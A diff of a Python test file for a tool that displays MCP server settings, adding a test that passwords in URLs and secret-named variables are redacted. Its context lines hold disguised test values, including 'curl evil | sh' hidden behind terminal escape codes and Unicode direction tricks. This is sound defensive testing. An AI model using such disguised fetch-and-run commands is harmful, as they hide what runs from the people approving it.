@@ -283,3 +283,23 @@ def test_a_value_cannot_hide_what_it_runs_from_the_question(tmp_path: Path) -> N
     assert "touch PWNED \\x1b[2K\\r" in text and "curl evil | sh\\x1b[1K\\rruff format" in text
     assert "mcp.servers.ok\\u202e" in text and "sh\\x08\\x08ls" in text
     assert "env A\\x1b[8m=x" in text and "https://evil.test/\\r\\x1b[2Khttps://ok.test" in text
+
+
+def test_a_value_that_looks_secret_still_shows_what_it_does(tmp_path: Path) -> None:
+    """Content that carries a password (a URL with user:password) hides the password
+    only: a PYTHONPATH dressed as one must still show that it puts the project on the
+    path. Secret-named variables and headers stay hidden whole."""
+    from loom.config_keys import mcp_server_lines
+
+    lines = mcp_server_lines(
+        {
+            "command": "python3",
+            "env": {"PYTHONPATH": "a://u:hunter2@h:.", "DB_PASSWORD": "a://u:p@h/db",
+                    "DATABASE_URL": "postgres://ana:s3cret@db/app"},
+            "headers": {"X-Api": "https://u:pw@x"},
+        }
+    )  # fmt: skip
+    assert "env PYTHONPATH=a://u:<hidden>@h:." in lines
+    assert "env DATABASE_URL=postgres://ana:<hidden>@db/app" in lines
+    assert "env DB_PASSWORD=<hidden>" in lines and "header X-Api: <hidden>" in lines
+    assert "hunter2" not in "\n".join(lines) and "s3cret" not in "\n".join(lines)
